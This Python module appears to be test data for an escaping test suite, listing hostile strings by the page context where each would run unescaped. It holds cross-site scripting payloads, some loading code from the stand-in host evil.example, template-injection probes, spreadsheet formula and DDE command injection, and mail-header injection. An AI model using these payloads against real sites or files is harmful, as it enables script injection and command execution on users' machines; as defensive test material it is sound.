"""What somebody may type who wants other people's browsers, programs or mails to do their bidding.

Each payload names the spot where it would run if nobody escaped it; the control of
``test_hostile_words.py`` puts it there, and whoever watches has to see it.
"""

from dataclasses import dataclass
from enum import StrEnum
from typing import Final


class Spot(StrEnum):
    """A place in a page where a text stands without being escaped."""

    TEXT = "<p>%s</p>"
    DOUBLE = '<input value="%s">'
    SINGLE = "<input value='%s'>"
    BARE = "<input value=%s>"
    LINK = '<a href="%s">Link</a>'
    TITLE = "<title>%s</title>"
    AREA = "<textarea>%s</textarea>"
    SCRIPT = '<script type="application/ld+json">{"name": "%s"}</script>'
    CODE = '<script>var name = "%s";</script>'
    BACKTICK = "<script>document.title = `%s`;</script>"
    REMARK = "<!-- %s -->"
    STYLE = '<p style="background: %s">x</p>'
    TEMPLATE = "jinja"
    NOWHERE = "only outside of pages"


@dataclass(frozen=True)
class Payload:
    """``text`` would run where it stands unescaped in ``spot``."""

    text: str
    spot: Spot


PRODUCT: Final = "837221"
"""What a template language makes of 913*917."""

_LISTED: Final = {
    Spot.TEXT: (
        "<script>x__()</script>",
        "<ScRiPt\n>x__()</sCrIpT\t>",
        "<script src=//evil.example/1.js></script>",
        "<img src=x onerror=x__()>",
        "<img/src='x'onerror=x__()//",
        "<svg onload=x__()>",
        "<svg><script>x__()</script></svg>",
        "<svg><animate onbegin=x__() dur=1s>",
        "<body onload=x__()>",
        "<iframe src=javascript:x__()>",
        "<iframe srcdoc='<script>x__()</script>'>",
        "<object data=//evil.example/2>",
        "<embed src=//evil.example/3>",
        "<details open ontoggle=x__()>",
        "<video><source onerror=x__()>",
        "<input autofocus onfocus=x__()>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;//evil.example/4'>",
        "<link rel=stylesheet href=//evil.example/5>",
        "<style>@import'//evil.example/6';</style>",
        "<p style=background:url(//evil.example/7)>x",
        "<math><mtext><style><img src=x onerror=x__()>",
        "<noscript><p title='</noscript><img src=x onerror=x__()>'>",
        "<form action=javascript:x__()><button>x",
        "<button formaction=javascript:x__()>x",
        "<a href=javascript:x__()>x</a>",
        "<x__ onpointerover=x__()>x",
        "]]><img src=x onerror=x__()>",
        "<template><s></template><img src=x onerror=x__()>",
        "\u202e<img src=x onerror=x__()>\u202c",
    ),
    Spot.DOUBLE: ('"><img src=x onerror=x__()>', '" autofocus onfocus="x__()'),
    Spot.SINGLE: ("'><img src=x onerror=x__()>", "' autofocus onfocus='x__()"),
    Spot.BARE: ("x autofocus onfocus=x__()", "x><img/src/onerror=x__()>"),
    Spot.LINK: (
        "javascript:x__()",
        "JaVaScRiPt:x__()//https://a.example",
        " \tjavascript:x__()",
        "java\tscript:x__()",
        "&#106;avascript&colon;x__()",
        "data:text/html,<script>x__()</script>",
        "vbscript:x__()",
        'https://a.example/"onmouseover="x__()',
    ),
    Spot.TITLE: ("</title><img src=x onerror=x__()>",),
    Spot.AREA: ("</textarea><img src=x onerror=x__()>",),
    Spot.SCRIPT: (
        "</script><img src=x onerror=x__()>",
        "</script ><svg onload=x__()>",
        '<!--<script>"}</script><img src=x onerror=x__()>',
    ),
    Spot.CODE: ('";x__();"', "</script><script>x__()//"),
    Spot.BACKTICK: ("${x__()}",),
    Spot.REMARK: ("--><img src=x onerror=x__()>", "--!><svg onload=x__()>"),
    Spot.STYLE: ("red;background:url(//evil.example/8)", "url(//evil.example/9)"),
    Spot.TEMPLATE: ("{{913*917}}", "{%print(913*917)%}"),
    Spot.NOWHERE: (
        '=HYPERLINK("//evil.example";"x")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "x\nBcc: dieb@evil.example",
        "x\nEND:VEVENT\nBEGIN:VALARM",
        'Komma, Strich; Rück\\strich: "x"',
        "<![CDATA[x]]>&amp;&lt;&nbsp;",
        "\u2066\u202etfel\u2069 a\u0300\u200b\u200d\U0001f469",
    ),
}  # fmt: skip
PAYLOADS: Final = tuple(Payload(text, spot) for spot, all_ in _LISTED.items() for text in all_)
TEXTS: Final = tuple(payload.text for payload in PAYLOADS)


def fitting(length: int) -> tuple[str, ...]:
    """Return the payloads that a column of this length can hold."""
    return tuple(text for text in TEXTS if len(text) <= length)
